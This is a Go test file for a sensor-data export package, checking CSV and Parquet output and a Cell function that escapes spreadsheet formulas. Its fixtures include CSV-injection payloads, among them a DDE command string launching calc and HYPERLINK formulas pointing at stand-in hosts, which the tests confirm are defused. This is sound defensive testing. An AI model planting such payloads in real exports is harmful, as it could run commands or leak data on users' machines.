package export

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"math"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/parquet-go/parquet-go"

	"github.com/twinline/twinline/internal/export/exporttest"
	"github.com/twinline/twinline/internal/store"
)

// fakeSelect serves series of n points each: time base+i, value i/4 (and
// a negative one), or an error after failAfter points of the series
// failKey.
type fakeSelect struct {
	n         map[store.SeriesKey]int
	base      int64
	failKey   store.SeriesKey
	failAfter int
}

func (f *fakeSelect) Select(_ context.Context, key store.SeriesKey, from, to int64, fn func(store.Point) bool) error {
	for i := range f.n[key] {
		if key == f.failKey && i == f.failAfter {
			return errors.New("disk on fire")
		}
		t := f.base + int64(i)
		if t < from || t > to {
			continue
		}
		if !fn(store.Point{Time: t, Value: float64(i)/4 - 1}) {
			return nil
		}
	}
	return nil
}

func wantRows(f *fakeSelect, list []Series) []Row {
	var rows []Row
	for _, s := range list {
		for i := range f.n[s.Key] {
			rows = append(rows, Row{Time: f.base + int64(i), Machine: s.Key.Machine, Metric: s.Key.Metric,
				Value: float64(i)/4 - 1, Site: s.Site, Line: s.Line})
		}
	}
	return rows
}

var testList = []Series{
	{Key: store.SeriesKey{Machine: "press-1", Metric: "temp"}, Site: "lyon", Line: "A"},
	{Key: store.SeriesKey{Machine: "=cmd|' /C calc'!A0", Metric: "-rpm"}, Site: "@site", Line: "+B"},
	{Key: store.SeriesKey{Machine: "empty", Metric: "none"}},
	{Key: store.SeriesKey{Machine: "press, \"2\"", Metric: "p\nq"}, Site: "paris"},
}

func testSelect() *fakeSelect {
	return &fakeSelect{base: 1_765_000_800_000, n: map[store.SeriesKey]int{
		testList[0].Key: BatchRows + 7, // spans batches
		testList[1].Key: 3,
		testList[3].Key: 2,
	}}
}

// recordingWriter records the batches it is given.
type recordingWriter struct {
	rows    []Row
	batches int
	err     error
	closed  bool
}

func (w *recordingWriter) Write(rows []Row) error {
	if w.err != nil {
		return w.err
	}
	w.batches++
	w.rows = append(w.rows, rows...)
	return nil
}
func (w *recordingWriter) Close() error { w.closed = true; return nil }

func TestRun(t *testing.T) {
	f := testSelect()
	var w recordingWriter
	flushes := 0
	n, err := Run(context.Background(), f.Select, testList, 0, math.MaxInt64, &w, func() error { flushes++; return nil })
	if err != nil {
		t.Fatal(err)
	}
	want := wantRows(f, testList)
	if diff := cmp.Diff(w.rows, want); diff != "" {
		t.Errorf("rows (-got +want):\n%s", diff)
	}
	if n != int64(len(want)) {
		t.Errorf("n = %d, want %d", n, len(want))
	}
	if w.batches != 2 || flushes != 2 {
		t.Errorf("%d batches, %d flushes; want 2 and 2 (batches of %d rows)", w.batches, flushes, BatchRows)
	}
	if w.closed {
		t.Error("Run closed the writer: the caller does")
	}
}

func TestRunRange(t *testing.T) {
	f := testSelect()
	var w recordingWriter
	from, to := f.base+10, f.base+12
	if _, err := Run(context.Background(), f.Select, testList[:1], from, to, &w, nil); err != nil {
		t.Fatal(err)
	}
	if len(w.rows) != 3 || w.rows[0].Time != from || w.rows[2].Time != to {
		t.Errorf("rows = %+v, want the 3 of [from, to]", w.rows)
	}
}

func TestRunErrors(t *testing.T) {
	t.Run("store fails mid-series", func(t *testing.T) {
		f := testSelect()
		f.failKey, f.failAfter = testList[1].Key, 2
		var w recordingWriter
		_, err := Run(context.Background(), f.Select, testList, 0, math.MaxInt64, &w, nil)
		if err == nil || !strings.Contains(err.Error(), "disk on fire") || !strings.Contains(err.Error(), "-rpm") {
			t.Errorf("err = %v, want the store's error naming the series", err)
		}
	})
	t.Run("writer fails", func(t *testing.T) {
		f := testSelect()
		w := recordingWriter{err: io.ErrClosedPipe}
		_, err := Run(context.Background(), f.Select, testList, 0, math.MaxInt64, &w, nil)
		if !errors.Is(err, io.ErrClosedPipe) {
			t.Errorf("err = %v, want the writer's", err)
		}
	})
	t.Run("flush fails", func(t *testing.T) {
		f := testSelect()
		var w recordingWriter
		_, err := Run(context.Background(), f.Select, testList, 0, math.MaxInt64, &w, func() error { return io.ErrShortWrite })
		if !errors.Is(err, io.ErrShortWrite) {
			t.Errorf("err = %v, want the flush's", err)
		}
	})
	t.Run("cancelled", func(t *testing.T) {
		ctx, cancel := context.WithCancel(context.Background())
		cancel()
		f := testSelect()
		var w recordingWriter
		if _, err := Run(ctx, f.Select, testList, 0, math.MaxInt64, &w, nil); !errors.Is(err, context.Canceled) {
			t.Errorf("err = %v, want context.Canceled", err)
		}
	})
}

func TestCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"press-1", "press-1"},
		{"=SUM(A1)", "'=SUM(A1)"},
		{"+33 6", "'+33 6"},
		{"-rpm", "'-rpm"},
		{"@site", "'@site"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"a=b", "a=b"},
		{"'quoted", "'quoted"},
		{`ok;=HYPERLINK("http://x/?"&A1,"x")`, `ok;'=HYPERLINK("http://x/?"&A1,"x")`},
		{"a; -1", "a; '-1"},
		{"a\t@b", "a\t'@b"},
		{"a;b;", "a;b;"},
		{"=a;+b", "'=a;'+b"},
	}
	for _, tt := range tests {
		if got := Cell(tt.in); got != tt.want {
			t.Errorf("Cell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestFormat(t *testing.T) {
	if got, want := FormatTime(1_765_000_800_250), "2025-12-06T06:00:00.250Z"; got != want {
		t.Errorf("FormatTime = %q, want %q", got, want)
	}
	for v, want := range map[float64]string{-3.5: "-3.5", 0.1: "0.1", 1e21: "1e+21", math.Inf(1): "+Inf", math.Inf(-1): "-Inf"} {
		if got := FormatValue(v); got != want {
			t.Errorf("FormatValue(%v) = %q, want %q", v, got, want)
		}
	}
}

// TestCSVInPython: the export's CSV, read by Python's csv module, has the
// header, a row per sample, every text cell defused, and the values.
func TestCSVInPython(t *testing.T) {
	f := testSelect()
	var buf bytes.Buffer
	w, err := NewCSV(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Run(context.Background(), f.Select, testList, 0, math.MaxInt64, w, nil); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	recs := exporttest.PythonCSV(t, buf.Bytes())
	want := [][]string{Columns}
	for _, r := range wantRows(f, testList) {
		// Line breaks inside a cell are written as CRLF, as the record
		// ends (encoding/csv's UseCRLF).
		metric := strings.ReplaceAll(Cell(r.Metric), "\n", "\r\n")
		want = append(want, []string{FormatTime(r.Time), Cell(r.Machine), metric, FormatValue(r.Value), Cell(r.Site), Cell(r.Line)})
	}
	if diff := cmp.Diff(recs, want); diff != "" {
		t.Errorf("records (-python +want):\n%s", diff)
	}
	if got := recs[len(recs)-2]; got[2] != "p\r\nq" || got[1] != `press, "2"` {
		t.Errorf("quoted cells came back as %q", got)
	}
	if got := recs[BatchRows+8]; got[1] != "'=cmd|' /C calc'!A0" || got[2] != "'-rpm" || got[4] != "'@site" || got[5] != "'+B" || got[3] != "-1" {
		t.Errorf("formula cells came back as %q; want each text cell defused, the number not", got)
	}
}

// TestParquetReadBack: read back with parquet-go's own reader, the rows
// equal the samples, in row groups of RowGroupRows.
func TestParquetReadBack(t *testing.T) {
	list := []Series{
		{Key: store.SeriesKey{Machine: "p1", Metric: "temp"}, Site: "lyon", Line: "A"},
		{Key: store.SeriesKey{Machine: "p2", Metric: "rpm"}},
	}
	f := &fakeSelect{base: 1_765_000_800_000, n: map[store.SeriesKey]int{list[0].Key: RowGroupRows + 1000, list[1].Key: 5000}}
	var buf bytes.Buffer
	w := NewParquet(&buf)
	if _, err := Run(context.Background(), f.Select, list, 0, math.MaxInt64, w, nil); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	file, err := parquet.OpenFile(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
	if err != nil {
		t.Fatal(err)
	}
	var sizes []int64
	for _, rg := range file.RowGroups() {
		sizes = append(sizes, rg.NumRows())
	}
	if diff := cmp.Diff(sizes, []int64{RowGroupRows, 6000}); diff != "" {
		t.Errorf("row group sizes (-got +want):\n%s", diff)
	}
	r := parquet.NewGenericReader[Row](bytes.NewReader(buf.Bytes()))
	defer r.Close()
	got := make([]Row, r.NumRows())
	if n, err := r.Read(got); n != len(got) || err != nil && err != io.EOF {
		t.Fatalf("read %d of %d rows: %v", n, len(got), err)
	}
	if diff := cmp.Diff(got, wantRows(f, list)); diff != "" {
		t.Errorf("rows (-parquet +want):\n%s", diff)
	}
	var cols []string
	for _, c := range file.Schema().Fields() {
		cols = append(cols, c.Name())
	}
	if diff := cmp.Diff(cols, Columns); diff != "" {
		t.Errorf("schema columns (-got +want):\n%s", diff)
	}
	if lt := file.Schema().Fields()[0].Type().LogicalType(); !strings.Contains(lt.String(), "TIMESTAMP") {
		t.Errorf("time column logical type = %v, want a timestamp", lt)
	}
}

// FuzzCell: whatever the text, the CSV cell reads back as Cell(text),
// and never starts with a formula character.
func FuzzCell(f *testing.F) {
	for _, s := range []string{"=1+1", "-2", "a,b", "\"q\"", "x\r\ny", "@", ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var buf bytes.Buffer
		tb, err := NewTable(&buf, "h", "x")
		if err != nil {
			t.Fatal(err)
		}
		if err := tb.Write([]string{Cell(s), "x"}); err != nil {
			t.Fatal(err)
		}
		if err := tb.Flush(); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatalf("reading back %q: %v", buf.String(), err)
		}
		got := recs[len(recs)-1][0]
		// With CRLF line ends (UseCRLF), encoding/csv writes a line
		// break inside a cell as CRLF, which reads back as \n, and drops
		// a lone \r.
		want := strings.ReplaceAll(Cell(s), "\r", "")
		if len(recs) != 2 || got != want {
			t.Fatalf("records %q, want the cell %q", recs, want)
		}
		if got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) {
			t.Errorf("cell %q starts with a formula character", got)
		}
		// Split as a spreadsheet with ';' or tab as list separator
		// would: no part after a separator may start (after spaces)
		// with a formula character either.
		parts := strings.Split(strings.ReplaceAll(got, "\t", ";"), ";")
		for i, part := range parts {
			if p := strings.TrimLeft(part, " "); i > 0 && p != "" && strings.ContainsRune("=+-@", rune(p[0])) {
				t.Errorf("cell %q: part %q after a separator starts with a formula character", got, part)
			}
		}
	})
}

func ExampleCell() {
	fmt.Println(Cell("=HYPERLINK(\"http://evil\")"), Cell("press-1"))
	// Output: '=HYPERLINK("http://evil") press-1
}
